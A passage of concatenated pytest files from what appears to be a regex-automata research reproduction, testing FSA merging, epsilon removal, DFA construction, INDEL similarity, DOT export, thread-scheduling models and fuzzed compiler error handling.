        a, b = stats(), stats(chars=10, examined=5, active=2)
        b.max_state_activation = 9
        b.wall_seconds = 0.5
        a.wall_seconds = 0.5
        a.merge(b)
        assert a.chars_processed == 110
        assert a.transitions_examined == 55
        assert a.max_state_activation == 9
        assert a.wall_seconds == 1.0

    def test_avg_active_pairs(self):
        s = stats(chars=10, active=30)
        assert s.avg_active_pairs == 3.0
        assert ExecutionStats().avg_active_pairs == 0.0


class TestMachineModel:
    def test_capacity_linear_up_to_cores(self):
        machine = MachineModel(physical_cores=4, hardware_threads=8, smt_efficiency=0.3)
        assert machine.capacity(1) == 1
        assert machine.capacity(4) == 4
        assert machine.capacity(6) == pytest.approx(4 + 0.3 * 2)
        assert machine.capacity(8) == pytest.approx(4 + 0.3 * 4)
        assert machine.capacity(100) == machine.capacity(8)
        assert machine.capacity(0) == 0.0


class TestSimulatedLatency:
    def test_single_thread_is_sum(self):
        works = [3.0, 5.0, 2.0]
        assert simulate_parallel_latency(works, 1) == pytest.approx(10.0)

    def test_halves_with_two_threads(self):
        works = [10.0] * 8
        t1 = simulate_parallel_latency(works, 1)
        t2 = simulate_parallel_latency(works, 2)
        assert t2 == pytest.approx(t1 / 2)

    def test_plateau_beyond_hardware_threads(self):
        works = [10.0] * 64
        machine = MachineModel()
        t8 = simulate_parallel_latency(works, 8, machine)
        t128 = simulate_parallel_latency(works, 128, machine)
        assert t128 == pytest.approx(t8, rel=0.05)

    def test_empty_and_errors(self):
        assert simulate_parallel_latency([], 4) == 0.0
        with pytest.raises(ValueError):
            simulate_parallel_latency([1.0], 0)

    def test_monotone_in_threads(self):
        works = [float(w) for w in (9, 3, 7, 1, 5, 5, 2, 8)]
        latencies = [simulate_parallel_latency(works, t) for t in (1, 2, 4, 8)]
        assert latencies == sorted(latencies, reverse=True)

    @given(st.lists(st.floats(min_value=0.1, max_value=100), min_size=1, max_size=20),
           st.integers(min_value=1, max_value=16))
    @settings(max_examples=100, deadline=None)
    def test_bounds_property(self, works, threads):
        """Latency is between total/capacity and total, and at least the
        largest single work item."""
        machine = MachineModel()
        latency = simulate_parallel_latency(works, threads, machine)
        total = sum(works)
        assert latency <= total + 1e-6
        assert latency >= max(works) - 1e-6
        assert latency >= total / machine.capacity(min(threads, len(works))) - 1e-6


class TestListSchedule:
    def test_fifo_makespan(self):
        # t1: 4 then 1 (ends 5); t2: 3 then 2 (ends 5)
        assert list_schedule_makespan([4, 3, 2, 1], 2) == pytest.approx(5.0)

    def test_single_thread(self):
        assert list_schedule_makespan([1, 2, 3], 1) == 6.0

    def test_errors(self):
        with pytest.raises(ValueError):
            list_schedule_makespan([1.0], 0)


class TestRunPool:
    def test_parallel_matches_union(self):
        fsas = compile_ruleset_fsas(["ab", "cd", "e+f"])
        mfsas = [merge_fsas([pair]) for pair in fsas]
        text = "abcdeefxx"
        engines = [IMfantEngine(m) for m in mfsas]
        matches, totals = run_pool([lambda e=e: e.run(text) for e in engines], num_threads=3)
        expected = set()
        for m in mfsas:
            expected |= IMfantEngine(m).run(text).matches
        assert matches == expected
        assert totals.chars_processed == 3 * len(text)


class TestLptSchedule:
    def test_lpt_never_worse_than_fifo_on_examples(self):
        from repro.engine.multithread import lpt_schedule_makespan

        works = [9.0, 1.0, 1.0, 1.0, 8.0, 2.0]
        assert lpt_schedule_makespan(works, 2) <= list_schedule_makespan(works, 2)

    def test_lpt_classic_improvement(self):
        from repro.engine.multithread import lpt_schedule_makespan

        # FIFO: t1=[5,3]=8, t2=[4,4]=8? -> order 5,4,3,4: t1:5+3=8 t2:4+4=8;
        # ruleset order 3,4,4,5: t1:3+4=7 t2:4+5=9 -> 9; LPT: 5,4,4,3 -> 8.
        works = [3.0, 4.0, 4.0, 5.0]
        assert list_schedule_makespan(works, 2) == pytest.approx(9.0)
        assert lpt_schedule_makespan(works, 2) == pytest.approx(8.0)

    @given(st.lists(st.floats(min_value=0.5, max_value=50), min_size=1, max_size=15),
           st.integers(min_value=1, max_value=6))
    @settings(max_examples=100, deadline=None)
    def test_lpt_bounds_property(self, works, threads):
        from repro.engine.multithread import lpt_schedule_makespan

        lpt = lpt_schedule_makespan(works, threads)
        assert lpt >= max(works) - 1e-9
        assert lpt >= sum(works) / threads - 1e-9
        # list scheduling guarantee: makespan <= avg + pmax <= 2 * LB
        # (Graham's tighter 4/3 bound is relative to OPT, not to LB)
        lower_bound = max(max(works), sum(works) / threads)
        assert lpt <= 2 * lower_bound + 1e-6
