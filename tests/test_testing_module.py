"""Tests for the public repro.testing strategies."""

from hypothesis import given, settings

from repro.frontend.parser import parse
from repro.testing import (
    DEFAULT_ALPHABET,
    ere_patterns,
    random_patterns,
    rulesets,
    subject_strings,
)


@given(ere_patterns())
@settings(max_examples=100, deadline=None)
def test_generated_patterns_parse(pattern):
    parse(pattern)  # must be syntactically valid


@given(ere_patterns(alphabet="xy", max_depth=2))
@settings(max_examples=50, deadline=None)
def test_custom_alphabet_respected(pattern):
    assert not set(pattern) & set("abcd")


@given(subject_strings(max_size=10))
@settings(max_examples=50, deadline=None)
def test_subject_strings_bounded(text):
    assert len(text) <= 10
    assert set(text) <= set(DEFAULT_ALPHABET)


@given(rulesets(min_size=2, max_size=4))
@settings(max_examples=30, deadline=None)
def test_rulesets_sizes(patterns):
    assert 2 <= len(patterns) <= 4
    for pattern in patterns:
        parse(pattern)


class TestRandomPatterns:
    def test_deterministic(self):
        assert random_patterns(5, 10) == random_patterns(5, 10)

    def test_seed_sensitivity(self):
        assert random_patterns(5, 10) != random_patterns(6, 10)

    def test_all_parse(self):
        for pattern in random_patterns(1, 50):
            parse(pattern)

    def test_count(self):
        assert len(random_patterns(0, 17)) == 17
