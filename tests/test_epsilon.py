"""Unit tests for ε-removal."""

from hypothesis import given, settings

from repro.automata.epsilon import epsilon_closure, remove_epsilon
from repro.automata.fsa import EPSILON, Fsa
from repro.automata.simulate import accepts, find_match_ends
from repro.automata.thompson import thompson_construct
from repro.frontend.parser import parse
from repro.labels import CharClass

from conftest import ere_patterns, input_strings


def chain(labels):
    """Build a linear FSA from a list of labels (None = ε)."""
    fsa = Fsa()
    prev = fsa.add_state()
    fsa.initial = prev
    for label in labels:
        nxt = fsa.add_state()
        fsa.add_transition(prev, nxt, label)
        prev = nxt
    fsa.finals = {prev}
    return fsa


class TestClosure:
    def test_self_in_closure(self):
        fsa = chain([CharClass.single("a")])
        assert epsilon_closure(fsa, {0}) == {0}

    def test_transitive(self):
        fsa = chain([EPSILON, EPSILON, CharClass.single("a")])
        assert epsilon_closure(fsa, {0}) == {0, 1, 2}

    def test_cycle(self):
        fsa = chain([EPSILON])
        fsa.add_transition(1, 0, EPSILON)
        assert epsilon_closure(fsa, {0}) == {0, 1}


class TestRemoval:
    def test_result_is_epsilon_free(self):
        fsa = remove_epsilon(thompson_construct(parse("(a|b)*c")))
        assert not fsa.has_epsilon()
        fsa.validate()

    def test_trims_unreachable(self):
        fsa = remove_epsilon(thompson_construct(parse("a|b")))
        assert fsa.reachable_states() == set(range(fsa.num_states))

    def test_noop_on_epsilon_free(self):
        fsa = chain([CharClass.single("a")])
        out = remove_epsilon(fsa)
        assert out.num_transitions == 1

    def test_empty_language_string(self):
        fsa = remove_epsilon(thompson_construct(parse("a*")))
        assert fsa.initial in fsa.finals  # accepts ε directly now

    def test_final_through_closure(self):
        fsa = chain([CharClass.single("a"), EPSILON])
        out = remove_epsilon(fsa)
        assert accepts(out, "a")
        assert not accepts(out, "")

    @given(ere_patterns(), input_strings())
    @settings(max_examples=150, deadline=None)
    def test_language_preserved(self, pattern, text):
        nfa = thompson_construct(parse(pattern))
        efree = remove_epsilon(nfa)
        assert accepts(nfa, text) == accepts(efree, text)

    @given(ere_patterns(), input_strings())
    @settings(max_examples=100, deadline=None)
    def test_stream_matches_preserved(self, pattern, text):
        nfa = thompson_construct(parse(pattern))
        efree = remove_epsilon(nfa)
        assert find_match_ends(nfa, text) == find_match_ends(efree, text)
