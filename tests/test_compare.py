"""Tests for the paper-band comparison + the headline release gate."""

import pytest

from repro.reporting.compare import (
    PAPER_HEADLINES,
    all_in_band,
    compare_headlines,
)
from repro.reporting.experiments import (
    ExperimentConfig,
    experiment_compression,
    experiment_scaling,
    experiment_throughput,
    scaling_summary,
)
from repro.reporting.tables import geometric_mean


class TestCompare:
    def test_in_band(self):
        results = compare_headlines({"state_compression": 75.0})
        assert len(results) == 1
        assert results[0].ok
        assert "75.00%" in results[0].render()

    def test_out_of_band(self):
        results = compare_headlines({"best_throughput_geomean": 0.5})
        assert not results[0].ok
        assert "OUT" in results[0].render()

    def test_unknown_key(self):
        with pytest.raises(KeyError):
            compare_headlines({"nope": 1.0})

    def test_all_in_band(self):
        assert all_in_band({"threads_to_match_max": 2})
        assert not all_in_band({"threads_to_match_max": 9})

    def test_paper_values_recorded(self):
        assert PAPER_HEADLINES["state_compression"].paper == 71.95
        assert PAPER_HEADLINES["multithread_speedup_geomean"].paper == 4.05


class TestHeadlineGate:
    """The release gate: a small two-suite run must land every headline
    inside its paper band."""

    def test_headlines_in_band(self):
        config = ExperimentConfig(
            datasets=("BRO", "TCP"), scale=12, stream_size=1024,
            merging_factors=(1, 2, 5, 0), threads=(1, 2, 4, 8, 16),
        )
        compression = experiment_compression(config)
        throughput = experiment_throughput(config)
        scaling = experiment_scaling(config)

        measured = {
            "state_compression": sum(p[0][0] for p in compression.values()) / len(compression),
            "transition_compression": sum(p[0][1] for p in compression.values()) / len(compression),
            "best_throughput_geomean": geometric_mean(
                [max(r["improvement"] for r in p.values()) for p in throughput.values()]
            ),
            "multithread_speedup_geomean": geometric_mean(
                [scaling_summary(p)["speedup"] for p in scaling.values()]
            ),
            "threads_to_match_max": max(
                scaling_summary(p)["mfsa_threads_to_match_single"] for p in scaling.values()
            ),
        }
        report = compare_headlines(measured)
        for row in report:
            print(row.render())
        assert all(row.ok for row in report), [r.render() for r in report if not r.ok]
