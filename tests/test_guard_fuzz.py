"""Fuzz the error contract: arbitrary (mostly malformed) pattern text
through the frontend and the governed compiler must either compile or
raise a :class:`ReproError` — never any other exception, never a hang.
"""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.frontend.parser import parse
from repro.guard.budget import Budget
from repro.guard.compiler import GuardedCompiler
from repro.guard.errors import ReproError
from repro.pipeline.compiler import CompileOptions, compile_ruleset

pytestmark = pytest.mark.guard

#: metacharacter-heavy alphabet so most samples are malformed EREs
_METAISH = st.text(
    alphabet="ab01(){}[]|*+?-^$\\.,:= \t",
    min_size=0,
    max_size=40,
)

#: a compile budget that bounds every fuzz case (loops, states, time)
_FUZZ_BUDGET = Budget(max_states=2000, max_transitions=8000,
                      max_loop_copies=512, deadline=2.0)

PER_PATTERN_DEADLINE = 2.0


def _assert_only_repro_errors(patterns):
    started = time.perf_counter()
    try:
        compile_ruleset(patterns, CompileOptions(budget=_FUZZ_BUDGET))
    except ReproError:
        pass
    # anything else (bare ValueError not in the taxonomy, KeyError,
    # RecursionError, ...) propagates and fails the test
    assert time.perf_counter() - started < PER_PATTERN_DEADLINE


class TestFrontendFuzz:
    @settings(max_examples=150, deadline=None)
    @given(_METAISH)
    def test_parse_raises_only_taxonomy_errors(self, pattern):
        try:
            parse(pattern)
        except ReproError:
            pass

    @settings(max_examples=100, deadline=None)
    @given(_METAISH)
    def test_compile_raises_only_taxonomy_errors(self, pattern):
        _assert_only_repro_errors([pattern])


class TestGuardedCompilerFuzz:
    @settings(max_examples=50, deadline=None)
    @given(st.lists(_METAISH, min_size=1, max_size=4))
    def test_quarantine_never_leaks_foreign_errors(self, patterns):
        started = time.perf_counter()
        try:
            compilation = GuardedCompiler(budget=_FUZZ_BUDGET).compile(patterns)
        except ReproError:
            pass
        else:
            # whatever survived really is compiled output
            if compilation.result is not None:
                assert compilation.result.mfsas
            assert len(compilation.surviving_ids) + len(compilation.quarantine) >= 1
        assert time.perf_counter() - started < PER_PATTERN_DEADLINE * len(patterns)

    @settings(max_examples=30, deadline=None)
    @given(st.lists(_METAISH, min_size=2, max_size=4))
    def test_survivors_of_mixed_rulesets_recompile_cleanly(self, patterns):
        try:
            compilation = GuardedCompiler(budget=_FUZZ_BUDGET).compile(patterns)
        except ReproError:
            return
        if not compilation.partial:
            return
        survivors = [compilation.patterns[i] for i in compilation.surviving_ids]
        solo = compile_ruleset(survivors, CompileOptions(budget=_FUZZ_BUDGET))
        assert len(solo.mfsas) == len(compilation.result.mfsas)
