"""Tests for the DOT export."""

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.thompson import thompson_construct
from repro.dfa import determinize
from repro.frontend.parser import parse
from repro.mfsa.merge import merge_fsas
from repro.viz import dfa_to_dot, fsa_to_dot, mfsa_to_dot

from conftest import compile_ruleset_fsas


class TestFsaDot:
    def test_structure(self):
        fsa = compile_re_to_fsa("a(b|c)")
        dot = fsa_to_dot(fsa, name="demo")
        assert dot.startswith('digraph "demo"')
        assert dot.count("->") == fsa.num_transitions + 1  # + start arrow
        assert "doublecircle" in dot

    def test_epsilon_arcs_dashed(self):
        nfa = thompson_construct(parse("a|b"))
        dot = fsa_to_dot(nfa)
        assert "style=dashed" in dot
        assert "ε" in dot

    def test_escaping(self):
        fsa = compile_re_to_fsa('\\"')
        assert '\\"' in fsa_to_dot(fsa)


class TestMfsaDot:
    def test_belonging_labels_and_colors(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["abc", "abd"]))
        dot = mfsa_to_dot(mfsa)
        assert "{0,1}" in dot  # shared arcs carry both rule ids
        assert "#17becf" in dot  # shared colour
        assert "penwidth=2.0" in dot

    def test_initial_and_final_marks(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab"]))
        dot = mfsa_to_dot(mfsa)
        assert "▸0" in dot
        assert "✓0" in dot

    def test_edge_count(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab", "cd"]))
        dot = mfsa_to_dot(mfsa)
        assert dot.count("->") == mfsa.num_transitions


class TestDfaDot:
    def test_condensed_edges(self):
        dfa = determinize(compile_ruleset_fsas(["[ab]c"]))
        dot = dfa_to_dot(dfa)
        # the [ab] pair is condensed into one labelled edge per state pair
        assert 'digraph "dfa"' in dot
        assert "✓0" in dot

    def test_long_labels_truncated(self):
        dfa = determinize(compile_ruleset_fsas(["x"]))
        dot = dfa_to_dot(dfa, max_label_chars=5)
        for line in dot.splitlines():
            if 'label="' in line and "->" in line:
                label = line.split('label="')[1].split('"')[0]
                assert len(label) <= 6


class TestCountingMfsaDot:
    def test_counting_arcs_dashed_with_bounds(self):
        from repro.counting import build_counting_fsa, merge_counting_fsas
        from repro.viz import counting_mfsa_to_dot

        z = merge_counting_fsas([
            (0, build_counting_fsa("x[ab]{5}y")),
            (1, build_counting_fsa("x[ab]{5}z")),
        ])
        dot = counting_mfsa_to_dot(z)
        assert "style=dashed" in dot
        assert "{5,5}" in dot
        assert "{0,1}" in dot  # the shared counter's belongings
