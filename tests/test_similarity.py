"""Tests for the INDEL similarity metric (paper Fig. 1 substrate)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.similarity.indel import (
    average_pairwise_similarity,
    indel_distance,
    indel_distance_bitparallel,
    lcs_length,
    lcs_length_bitparallel,
    normalized_indel_similarity,
)

TEXT = st.text(alphabet="abcxyz", max_size=40)


class TestLcs:
    @pytest.mark.parametrize("a,b,expected", [
        ("", "", 0),
        ("a", "", 0),
        ("abc", "abc", 3),
        ("abc", "acb", 2),
        ("abcdef", "zabxcy", 3),
        ("aaaa", "aa", 2),
    ])
    def test_known_values(self, a, b, expected):
        assert lcs_length(a, b) == expected
        assert lcs_length_bitparallel(a, b) == expected

    def test_symmetric(self):
        assert lcs_length("abcde", "badec") == lcs_length("badec", "abcde")


class TestIndel:
    def test_paper_worked_example(self):
        """lewenstein vs levenshtein: distance 3, similarity 1 - 3/21."""
        assert indel_distance("lewenstein", "levenshtein") == 3
        sim = normalized_indel_similarity("lewenstein", "levenshtein")
        assert sim == pytest.approx(1 - 3 / 21)

    def test_identical_strings(self):
        assert indel_distance("abc", "abc") == 0
        assert normalized_indel_similarity("abc", "abc") == 1.0

    def test_disjoint_strings(self):
        assert normalized_indel_similarity("aaa", "bbb") == 0.0

    def test_empty_pair(self):
        assert normalized_indel_similarity("", "") == 1.0

    def test_one_empty(self):
        assert indel_distance("abc", "") == 3
        assert normalized_indel_similarity("abc", "") == 0.0

    def test_dp_option(self):
        assert normalized_indel_similarity("abcd", "abce", bitparallel=False) == \
               normalized_indel_similarity("abcd", "abce", bitparallel=True)


class TestAverages:
    def test_all_pairs(self):
        strings = ["ab", "ab", "cd"]
        # pairs: (ab,ab)=1, (ab,cd)=0, (ab,cd)=0
        assert average_pairwise_similarity(strings) == pytest.approx(1 / 3)

    def test_single_string(self):
        assert average_pairwise_similarity(["ab"]) == 0.0

    def test_subsampling_is_deterministic(self):
        strings = [f"s{i}word{i % 3}" for i in range(20)]
        a = average_pairwise_similarity(strings, max_pairs=30)
        b = average_pairwise_similarity(strings, max_pairs=30)
        assert a == b

    def test_subsample_close_to_full(self):
        strings = [f"prefix{i % 4}tail{i}" for i in range(16)]
        full = average_pairwise_similarity(strings)
        sampled = average_pairwise_similarity(strings, max_pairs=60)
        assert abs(full - sampled) < 0.25


@given(TEXT, TEXT)
@settings(max_examples=200, deadline=None)
def test_bitparallel_equals_dp(a, b):
    assert lcs_length(a, b) == lcs_length_bitparallel(a, b)
    assert indel_distance(a, b) == indel_distance_bitparallel(a, b)


@given(TEXT, TEXT)
@settings(max_examples=150, deadline=None)
def test_metric_properties(a, b):
    d = indel_distance(a, b)
    assert d == indel_distance(b, a)
    assert (d == 0) == (a == b)
    assert 0 <= normalized_indel_similarity(a, b) <= 1


@given(TEXT, TEXT, TEXT)
@settings(max_examples=80, deadline=None)
def test_triangle_inequality(a, b, c):
    assert indel_distance(a, c) <= indel_distance(a, b) + indel_distance(b, c)
