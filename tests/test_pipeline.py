"""Tests for the multi-level compilation framework driver."""

import pytest

from repro.anml.reader import read_anml
from repro.engine.imfant import IMfantEngine
from repro.mfsa.activation import reference_match
from repro.pipeline.compiler import CompilationResult, CompileOptions, compile_ruleset

from conftest import mfsa_equal


PATTERNS = ["abc", "abd", "a[bc]e", "xy+z", "ab{2,3}"]


class TestCompile:
    def test_default_merges_all(self):
        result = compile_ruleset(PATTERNS)
        assert len(result.mfsas) == 1
        assert result.mfsas[0].num_rules == len(PATTERNS)

    def test_m1_no_merging(self):
        result = compile_ruleset(PATTERNS, CompileOptions(merging_factor=1, emit_anml=False))
        assert len(result.mfsas) == len(PATTERNS)
        assert all(m.num_rules == 1 for m in result.mfsas)

    def test_grouping(self):
        result = compile_ruleset(PATTERNS, CompileOptions(merging_factor=2, emit_anml=False))
        assert len(result.mfsas) == 3  # ceil(5/2)
        assert [m.num_rules for m in result.mfsas] == [2, 2, 1]

    def test_rule_ids_are_ruleset_indices(self):
        result = compile_ruleset(PATTERNS, CompileOptions(merging_factor=2, emit_anml=False))
        all_rules = sorted(r for m in result.mfsas for r in m.rule_ids)
        assert all_rules == list(range(len(PATTERNS)))

    def test_stage_times_populated(self):
        result = compile_ruleset(PATTERNS)
        times = result.stage_times
        assert times.frontend > 0
        assert times.ast_to_fsa > 0
        assert times.single_opt > 0
        assert times.merging > 0
        assert times.backend > 0
        assert times.total == pytest.approx(sum(times.as_dict().values()))

    def test_no_anml_when_disabled(self):
        result = compile_ruleset(PATTERNS, CompileOptions(emit_anml=False))
        assert result.anml is None
        assert result.stage_times.backend == 0.0

    def test_anml_round_trips(self):
        result = compile_ruleset(PATTERNS, CompileOptions(merging_factor=0))
        assert result.anml is not None and len(result.anml) == 1
        recovered = read_anml(result.anml[0])
        assert mfsa_equal(result.mfsas[0], recovered)

    def test_merge_report_totals(self):
        result = compile_ruleset(PATTERNS, CompileOptions(emit_anml=False))
        report = result.merge_report
        assert report.input_states == result.total_input_states
        assert report.output_states == result.total_output_states
        assert report.state_compression > 0

    def test_compression_grows_with_m(self):
        by_m = {}
        for m in (1, 2, 0):
            result = compile_ruleset(PATTERNS, CompileOptions(merging_factor=m, emit_anml=False))
            by_m[m] = result.total_output_states
        assert by_m[0] <= by_m[2] <= by_m[1]

    def test_stratification_option(self):
        patterns = ["[abce]x", "[bcd]x"]
        plain = compile_ruleset(patterns, CompileOptions(emit_anml=False))
        strat = compile_ruleset(
            patterns, CompileOptions(emit_anml=False, stratify_charclasses=True)
        )
        assert strat.total_output_states <= plain.total_output_states

    def test_syntax_error_propagates(self):
        from repro.frontend.errors import RegexSyntaxError

        with pytest.raises(RegexSyntaxError):
            compile_ruleset(["a("])


class TestEndToEnd:
    @pytest.mark.parametrize("m", [1, 2, 0])
    def test_matches_identical_across_merging_factors(self, m):
        """The merging factor is a pure performance knob: matches are
        invariant (integration across the whole pipeline + engine)."""
        text = "zabcabde" * 4 + "xyyyzabbbc"
        baseline = compile_ruleset(PATTERNS, CompileOptions(merging_factor=1, emit_anml=False))
        expected = set()
        for mfsa in baseline.mfsas:
            expected |= IMfantEngine(mfsa).run(text).matches

        result = compile_ruleset(PATTERNS, CompileOptions(merging_factor=m, emit_anml=False))
        got = set()
        for mfsa in result.mfsas:
            got |= IMfantEngine(mfsa).run(text).matches
        assert got == expected

    def test_anml_consumers_match(self):
        """Compile → ANML → read → execute equals direct execution."""
        text = "abcabdabe"
        result = compile_ruleset(PATTERNS, CompileOptions(merging_factor=0))
        direct = reference_match(result.mfsas[0], text)
        via_anml = reference_match(read_anml(result.anml[0]), text)
        assert direct == via_anml
