"""Unit and property tests for Algorithm 1 (FSA merging)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.mfsa.activation import reference_match
from repro.mfsa.merge import (
    MergeReport,
    merge_fsas,
    merge_ruleset,
)
from repro.mfsa.model import Mfsa, validate_projections

from conftest import compile_ruleset_fsas, ere_patterns, input_strings, random_ruleset


class TestBasics:
    def test_empty_input_rejected(self):
        with pytest.raises(ValueError):
            merge_fsas([])

    def test_duplicate_rule_ids_rejected(self):
        fsa = compile_re_to_fsa("a")
        with pytest.raises(ValueError):
            merge_fsas([(1, fsa), (1, fsa)])

    def test_epsilon_input_rejected(self):
        from repro.automata.thompson import thompson_construct
        from repro.frontend.parser import parse

        with pytest.raises(ValueError):
            merge_fsas([(0, thompson_construct(parse("ab")))])

    def test_single_fsa_is_trivial_wrap(self):
        fsa = compile_re_to_fsa("abc")
        mfsa = merge_fsas([(0, fsa)])
        assert isinstance(mfsa, Mfsa)
        assert mfsa.num_states == fsa.num_states
        assert mfsa.num_transitions == fsa.num_transitions


class TestOutcomes:
    """The three §III-A outcomes of the common-sub-path search."""

    def test_no_common_subpaths_disjoint_copy(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["abc", "xyz"]))
        f1 = compile_re_to_fsa("abc")
        f2 = compile_re_to_fsa("xyz")
        assert mfsa.num_states == f1.num_states + f2.num_states
        assert mfsa.num_transitions == f1.num_transitions + f2.num_transitions
        assert all(len(t.bel) == 1 for t in mfsa.transitions)

    def test_partial_sharing_updates_belonging(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["abc", "abd"]))
        shared = [t for t in mfsa.transitions if len(t.bel) == 2]
        assert len(shared) == 2  # the a and b arcs
        total_single = sum(f.num_states for f in
                           (compile_re_to_fsa("abc"), compile_re_to_fsa("abd")))
        assert mfsa.num_states < total_single

    def test_identical_fsas_fully_merge(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["abc", "abc"[:3]]))
        # identical patterns: every arc belongs to both, no state added
        assert mfsa.num_states == compile_re_to_fsa("abc").num_states
        assert all(t.bel == frozenset({0, 1}) for t in mfsa.transitions)

    def test_fig2_style_shared_prefix(self):
        """The paper's Fig. 2 scenario: a shared [gf]-style sub-path is
        stored once with updated belonging."""
        mfsa, structures = merge_fsas(
            compile_ruleset_fsas(["a[fg]lm", "kja[fg]"]), collect_structures=True
        )
        assert structures, "merging structures should be discovered"
        assert any(len(ms) >= 1 for ms in structures)
        shared = [t for t in mfsa.transitions if len(t.bel) == 2]
        assert shared, "the a[fg] sub-path should be shared"


class TestReport:
    def test_compression_counters(self):
        report = MergeReport()
        merge_fsas(compile_ruleset_fsas(["abcd", "abce"]), report=report)
        assert report.input_states > report.output_states
        assert 0 < report.state_compression < 100
        assert report.merged_transitions >= 2
        assert report.label_comparisons > 0

    def test_zero_inputs_compression(self):
        assert MergeReport().state_compression == 0.0
        assert MergeReport().transition_compression == 0.0


class TestMergeRuleset:
    def test_grouping_counts(self):
        fsas = compile_ruleset_fsas(["ab", "cd", "ef", "gh", "ij"])
        assert len(merge_ruleset(fsas, 2)) == 3  # ceil(5/2)
        assert len(merge_ruleset(fsas, 0)) == 1  # all
        assert len(merge_ruleset(fsas, 1)) == 5  # no merging
        assert len(merge_ruleset(fsas, 99)) == 1  # M >= N behaves like all

    def test_report_accumulates_over_groups(self):
        fsas = compile_ruleset_fsas(["abc", "abd", "abe", "abf"])
        report = MergeReport()
        merge_ruleset(fsas, 2, report=report)
        assert report.input_states == sum(f.num_states for _, f in fsas)
        assert report.output_states > 0

    def test_rule_ids_preserved_across_groups(self):
        fsas = compile_ruleset_fsas(["ab", "cd", "ef"])
        mfsas = merge_ruleset(fsas, 2)
        all_rules = sorted(r for m in mfsas for r in m.rule_ids)
        assert all_rules == [0, 1, 2]


class TestCorrectness:
    """Structural and language correctness of merging."""

    @pytest.mark.parametrize("patterns", [
        ["abc", "abd"],
        ["abc", "abc"],
        ["a[bc]d", "a[bc]e"],
        ["a[bc]d", "abd"],          # CC vs single char: must NOT merge labels
        ["(ad|cb)ab", "a(b|c)"],    # paper Fig. 6 pair
        ["bcdegh", "def"],          # paper Fig. 3 pair
        ["ab*c", "ab*d"],
        ["aaa", "aa", "a"],
    ])
    def test_projection_isomorphism(self, patterns):
        fsas = compile_ruleset_fsas(patterns)
        mfsa = merge_fsas(fsas)
        validate_projections(mfsa, dict(fsas))

    def test_cc_merges_only_on_exact_set(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["[ab]x", "[abc]x"]))
        first = [t for t in mfsa.transitions if len(t.bel) == 2]
        # [ab] != [abc]: the class arcs stay separate (x tails may share)
        from repro.labels import CharClass

        for t in mfsa.transitions:
            if t.label == CharClass.from_chars("ab") or t.label == CharClass.from_chars("abc"):
                assert len(t.bel) == 1

    @given(st.data())
    @settings(max_examples=100, deadline=None)
    def test_merge_preserves_matches_property(self, data):
        patterns = data.draw(st.lists(ere_patterns(), min_size=2, max_size=5))
        text = data.draw(input_strings())
        fsas = compile_ruleset_fsas(patterns)
        mfsa = merge_fsas(fsas)
        validate_projections(mfsa, dict(fsas))
        expected = set()
        for rule, fsa in fsas:
            expected |= {(rule, end) for end in find_match_ends(fsa, text)}
        assert reference_match(mfsa, text) == expected

    def test_deterministic(self):
        patterns = random_ruleset(5, 8)
        a = merge_fsas(compile_ruleset_fsas(patterns))
        b = merge_fsas(compile_ruleset_fsas(patterns))
        assert {(t.src, t.dst, t.label.mask, t.bel) for t in a.transitions} == \
               {(t.src, t.dst, t.label.mask, t.bel) for t in b.transitions}

    def test_seed_cap_none_is_exhaustive(self):
        patterns = random_ruleset(9, 6)
        capped = merge_fsas(compile_ruleset_fsas(patterns), seed_cap=2)
        full = merge_fsas(compile_ruleset_fsas(patterns), seed_cap=None)
        # both are correct MFSAs; the exhaustive search merges at least as much
        assert full.num_states <= capped.num_states
        validate_projections(full, dict(compile_ruleset_fsas(patterns)))
        validate_projections(capped, dict(compile_ruleset_fsas(patterns)))
