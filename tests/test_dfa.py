"""Tests for the DFA substrate (determinise / minimise / D2FA / engines)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.dfa import (
    D2faEngine,
    DfaEngine,
    DfaExplosionError,
    compress_default_transitions,
    determinize,
    minimize,
)

from conftest import compile_ruleset_fsas, ere_patterns, input_strings


def build_dfa(patterns, **kwargs):
    return determinize(compile_ruleset_fsas(patterns), **kwargs)


def expected_matches(patterns, text):
    out = set()
    for rule_id, pattern in enumerate(patterns):
        out |= {(rule_id, e) for e in find_match_ends(compile_re_to_fsa(pattern), text)}
    return out


class TestDeterminize:
    def test_simple_streaming_matches(self):
        dfa = build_dfa(["ab", "bc"])
        got = DfaEngine(dfa).run("zabcz").matches
        assert got == {(0, 3), (1, 4)}

    def test_rows_total_in_streaming_mode(self):
        dfa = build_dfa(["ab"])
        assert all(dst != -1 for row in dfa.rows for dst in row)

    def test_anchored_mode_has_dead_entries(self):
        dfa = determinize(compile_ruleset_fsas(["ab"]), streaming=False)
        assert any(dst == -1 for row in dfa.rows for dst in row)

    def test_empty_ruleset_rejected(self):
        with pytest.raises(ValueError):
            determinize([])

    def test_epsilon_input_rejected(self):
        from repro.automata.thompson import thompson_construct
        from repro.frontend.parser import parse

        with pytest.raises(ValueError):
            determinize([(0, thompson_construct(parse("a|b")))])

    def test_explosion_budget(self):
        # .{0,14}x style patterns explode exponentially when unioned
        patterns = [f"a.{{{k},{k+4}}}b" for k in range(4)]
        with pytest.raises(DfaExplosionError):
            determinize(compile_ruleset_fsas(patterns), max_states=50)

    def test_multi_rule_accepts(self):
        dfa = build_dfa(["ab", "ab"])
        accept_sets = {accept for accept in dfa.accepts if accept}
        assert frozenset({0, 1}) in accept_sets


class TestMinimize:
    def test_reduces_redundant_states(self):
        dfa = build_dfa(["abc|abd"])
        small = minimize(dfa)
        assert small.num_states <= dfa.num_states

    def test_language_preserved(self):
        patterns = ["a(b|c)d", "xy"]
        dfa = build_dfa(patterns)
        small = minimize(dfa)
        for text in ("abd", "acd", "xy", "zabdxy", "abc", ""):
